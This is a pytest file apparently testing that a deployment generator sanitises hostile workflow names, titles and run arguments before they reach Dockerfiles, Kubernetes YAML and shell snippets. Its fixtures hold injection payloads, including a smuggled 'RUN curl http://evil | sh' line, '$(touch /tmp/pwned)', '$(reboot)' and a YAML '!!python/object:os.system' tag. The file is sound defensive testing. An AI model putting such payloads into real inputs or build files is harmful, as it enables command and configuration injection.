"""Hostile workflow names and node titles never reach a Dockerfile, a manifest or a shell command as text: the
files still parse, keep their structure, and carry only the DNS-1123 form of the name."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path

import pytest

from dnne.targets import build_with_targets, dns_label, select_targets

from .k8s_checks import PYTORCHJOB_CRD, all_problems

yaml = pytest.importorskip("yaml", reason="the kubernetes target needs PyYAML (pip install 'dnne[deploy]')")
EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
HOSTILE = [
    "quote\" ' `tick`",
    "new\nline\nRUN curl http://evil | sh",
    "$(touch /tmp/pwned)${HOME}",
    "&anchor *alias !!python/object:os.system",
    "{{ 7*7 }}{% raw %}",
    "key: value\n- item\n---\nkind: Secret",
    "--network host",
    "\u202eright-to-left\x00nul",
    "Ünïcode名前 \\ back\\slash",
]
MARKERS = ("pwned", "evil", "${", "$(", "{{", "{%", "&anchor", "*alias", "!!python", "Secret", "\u202e", "\x00")
DOCKER_INSTRUCTIONS = {"ARG", "FROM", "COPY", "RUN", "LABEL", "ENV", "WORKDIR", "USER", "VOLUME", "ENTRYPOINT", "CMD"}


def _files(name: str, title: str) -> dict[str, str]:
    doc = json.loads((EXAMPLES / "mnist_mlp.json").read_text())
    for node in doc["nodes"]:
        node["title"] = title
    built = build_with_targets(doc, targets=select_targets("docker,kubernetes"), name=name)
    plain = build_with_targets(doc, name=name).contents
    return {rel: data.decode() for rel, data in built.contents.items() if rel not in plain}


def _instructions(dockerfile: str) -> list[str]:
    """The instruction of each logical line (comments and continuations folded), failing on anything else."""
    found, continued = [], False
    for line in dockerfile.splitlines():
        if continued:
            continued = line.endswith("\\")
            continue
        if not line or line.startswith("#"):
            continue
        word = line.split(" ", 1)[0]
        assert word in DOCKER_INSTRUCTIONS, f"unexpected Dockerfile line {line!r}"
        found.append(word)
        continued = line.endswith("\\")
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_name_and_titles(text):
    files = _files(text, text)
    reference = _files("benign", "benign")
    label = dns_label(text)
    assert re.fullmatch(r"[a-z0-9]([a-z0-9-]*[a-z0-9])?", label)
    for rel, content in files.items():
        inert = content.replace(label, "NAME")  # the label is [a-z0-9-] words: harmless even if they spell "evil"
        for marker in MARKERS:  # "${" is in the Dockerfile itself (${BASE_IMAGE}); never one more from the workflow
            assert inert.count(marker) == reference[rel].count(marker), f"{marker!r} from the workflow reached {rel}"
        # the same file as for a benign workflow, up to the sanitised name
        assert content.replace(label, "NAME") == reference[rel].replace("benign", "NAME"), rel
    assert _instructions(files["Dockerfile"]) == _instructions(reference["Dockerfile"])
    for rel in ("k8s/job.yaml", "k8s/pytorchjob.yaml"):
        doc = yaml.safe_load(files[rel])
        assert doc["metadata"]["name"] == label
        if _has_validators() and (doc["kind"] == "Job" or PYTORCHJOB_CRD.is_file()):
            assert all_problems(doc) == []
    for block in re.findall(r"```sh\n(.*?)```", files["DEPLOY.md"], re.S):
        for line in block.splitlines():
            assert shlex.split(line, comments=True)  # every shown command parses as shell words


def _has_validators() -> bool:
    try:
        import jsonschema  # noqa: F401
        import kubernetes_validate  # noqa: F401
    except ImportError:
        return False
    return True


def test_hostile_run_args_stay_single_words():
    """--run-args are the user's own flags: each word stays one YAML list item, whatever it holds."""
    from dnne.targets import DeployOptions

    words = ("--epochs", "$(reboot)", "a b", "x;y | z", "&anchor")
    built = build_with_targets(
        EXAMPLES / "mnist_mlp.json", targets=select_targets("kubernetes"), options=DeployOptions(program_args=words)
    )
    job = yaml.safe_load(built.contents["k8s/job.yaml"])
    assert tuple(job["spec"]["template"]["spec"]["containers"][0]["args"][-len(words) :]) == words
